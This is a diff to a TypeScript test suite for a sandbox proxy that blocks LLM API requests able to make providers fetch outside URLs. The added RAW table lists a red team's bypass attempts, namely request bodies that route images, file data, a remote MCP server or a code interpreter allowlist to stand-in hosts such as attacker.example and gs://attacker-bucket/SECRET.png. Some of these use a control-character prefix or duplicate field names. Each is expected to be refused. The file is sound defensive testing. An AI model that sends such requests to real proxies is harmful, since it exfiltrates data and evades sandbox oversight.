@@ -59,6 +59,27 @@ const GEMINI: [string, (g: GoogleGenAI) => Promise<unknown>, string][] = [
   ['file data by a URL outside Google', (g) => g.models.generateContent({ model: 'via-gemini', contents: [{ role: 'user', parts: [{ fileData: { fileUri: EXFIL, mimeType: 'image/png' } }, { text: 'describe' }] }] }), 'contents[0].parts[0].fileData.fileUri'],
 ];
 
+const ANTHROPIC_HEADERS = { 'content-type': 'application/json', 'anthropic-version': '2023-06-01' };
+const JSON_HEADERS = { 'content-type': 'application/json' };
+const user = (content: unknown) => [{ role: 'user', content }];
+
+/** What the SDKs' types do not all spell, sent as JSON (red team 7's ways around the first check): [name, path, headers, body]. */
+const RAW: [string, string, Record<string, string>, object][] = [
+  ['a Gemini tool that calls a remote MCP server', '/v1beta/models/via-gemini:generateContent', JSON_HEADERS, { contents: user([{ text: 'x' }]).map((m) => ({ role: m.role, parts: m.content })), tools: [{ mcpServers: [{ name: 'exfil', streamableHttpTransport: { url: 'https://attacker.example/mcp' } }] }] }],
+  ['an image by URL in Anthropic count_tokens', '/v1/messages/count_tokens', ANTHROPIC_HEADERS, { model: 'via-anthropic', messages: user([{ type: 'image', source: { type: 'url', url: EXFIL } }]) }],
+  ['file data by URL in Gemini countTokens', '/v1beta/models/via-gemini:countTokens', JSON_HEADERS, { contents: [{ role: 'user', parts: [{ fileData: { fileUri: EXFIL, mimeType: 'image/png' } }] }] }],
+  ['an image by URL inside a content document', '/v1/messages', ANTHROPIC_HEADERS, { model: 'via-anthropic', max_tokens: 16, messages: user([{ type: 'document', source: { type: 'content', content: [{ type: 'image', source: { type: 'url', url: EXFIL } }] } }]) }],
+  ['file data by URL in a function response', '/v1beta/models/via-gemini:generateContent', JSON_HEADERS, { contents: [{ role: 'user', parts: [{ functionResponse: { name: 'f', response: {}, parts: [{ fileData: { fileUri: EXFIL, mimeType: 'image/png' } }] } }] }] }],
+  ['file data by URL in the system instruction', '/v1beta/models/via-gemini:generateContent', JSON_HEADERS, { systemInstruction: { parts: [{ file_data: { file_uri: EXFIL, mime_type: 'image/png' } }] }, contents: [{ role: 'user', parts: [{ text: 'x' }] }] }],
+  ['a code interpreter with network access', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'code_interpreter', container: { type: 'auto', network_policy: { type: 'allowlist', allowed_domains: ['attacker.example'] } } }] }],
+  ['a screenshot by URL in a computer call output', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: [{ type: 'computer_call_output', call_id: 'c1', output: { type: 'computer_screenshot', image_url: EXFIL } }] }],
+  ['an image by URL in prompt variables', '/v1/responses', JSON_HEADERS, { model: 'via-openai', prompt: { id: 'pmpt_1', variables: { pic: { type: 'input_image', image_url: EXFIL } } }, input: 'x' }],
+  ['a Cloud Storage image', '/v1/chat/completions', JSON_HEADERS, { model: 'via-gemini', messages: user([{ type: 'image_url', image_url: { url: 'gs://attacker-bucket/SECRET.png' } }]) }],
+  ['a URL behind a control character', '/v1/messages', ANTHROPIC_HEADERS, { model: 'via-anthropic', max_tokens: 16, messages: user([{ type: 'image', source: { type: 'url', url: `\u0001${EXFIL}` } }]) }],
+  ['OpenRouter web plugins', '/v1/chat/completions', JSON_HEADERS, { model: 'via-openai', plugins: [{ id: 'web' }], messages: user('x') }],
+  ['a hosted tool type the sidecar does not know', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'browser_2027' }] }],
+];
+
 /** The upstream requests each mock received, to show what a refusal kept from them. */
 const sent = (kinds = KINDS) => kinds.map((k) => closed.mocks.get(k)!.received.length).reduce((a, b) => a + b, 0);
 
@@ -97,6 +118,23 @@ describe('a sandbox that allows its providers to reach nothing (the default)', (
     expect(sent()).toBe(before);
   });
 
+  it.each(RAW)('refuses %s', async (_name, path, headers, body) => {
+    const before = sent();
+    const response = await closed.stack.fetch(path, { method: 'POST', headers, body: JSON.stringify(body).replace('\\\\u0001', '\\u0001') });
+    expect(response.status).toBe(400);
+    expect(await response.text()).toContain('reaches past the sandbox');
+    expect(sent()).toBe(before);
+  });
+
+  it('refuses a Google file beside a URL under the other name of the same field: Gemini might read either', async () => {
+    const before = sent();
+    const body = { contents: [{ role: 'user', parts: [{ fileData: { fileUri: 'https://generativelanguage.googleapis.com/v1beta/files/abc', mimeType: 'image/png' }, file_data: { file_uri: EXFIL, mime_type: 'image/png' } }] }] };
+    const response = await closed.stack.fetch('/v1beta/models/via-gemini:generateContent', { method: 'POST', headers: JSON_HEADERS, body: JSON.stringify(body) });
+    expect(response.status).toBe(400);
+    expect(await response.text()).toContain('both fileData and file_data are set');
+    expect(sent()).toBe(before);
+  });
+
   it('serves what stays inside: images as data, a Gemini file uploaded to Google, a tool input that names a URL, hosted tools that reach nothing', async () => {
     const chat = await closed.stack.openai().chat.completions.create({ model: 'via-anthropic', messages: [{ role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image_url', image_url: { url: `data:image/png;base64,${PNG}` } }] }] });
     expect(chat.choices[0]!.message.content).toContain('describe');
@@ -114,6 +152,24 @@ describe('a sandbox that allows its providers to reach nothing (the default)', (
     expect(history.type).toBe('message');
     const interpreter = await closed.stack.openai().responses.create({ model: 'via-openai', input: 'compute', tools: [{ type: 'code_interpreter', container: { type: 'auto' } }] });
     expect(interpreter.status).toBe('completed');
+    // Codex's default: OpenAI's web search of its cached index only, which contacts no site.
+    const cached = await closed.stack.openai().responses.create({ model: 'via-openai', input: 'look it up', tools: [{ type: 'web_search', external_web_access: false } as never] });
+    expect(cached.status).toBe('completed');
+    // URLs in words and in the agent's own tool calls and results are words.
+    const words = await closed.stack.openai().chat.completions.create({
+      model: 'via-openai',
+      tools: [{ type: 'function', function: { name: 'fetch', description: 'Fetches https://example.com pages', parameters: { type: 'object', properties: { url: { type: 'string', default: 'https://example.com' } } } } }],
+      messages: [
+        { role: 'user', content: `summarise ${EXFIL}` },
+        { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'fetch', arguments: JSON.stringify({ url: EXFIL }) } }] },
+        { role: 'tool', tool_call_id: 'call_1', content: `fetched ${EXFIL}` },
+      ],
+    });
+    expect(words.choices[0]!.message).toBeTruthy();
+    const embedded = await closed.stack.openai().embeddings.create({ model: 'via-openai', input: EXFIL });
+    expect(embedded.data).toHaveLength(1);
+    const searched = await closed.stack.anthropic().messages.create({ model: 'via-anthropic', max_tokens: 16, messages: [{ role: 'user', content: [{ type: 'search_result', source: EXFIL, title: 't', content: [{ type: 'text', text: 'found' }] } as never, { type: 'text', text: 'use it' }] }] });
+    expect(searched.type).toBe('message');
   });
 });
 
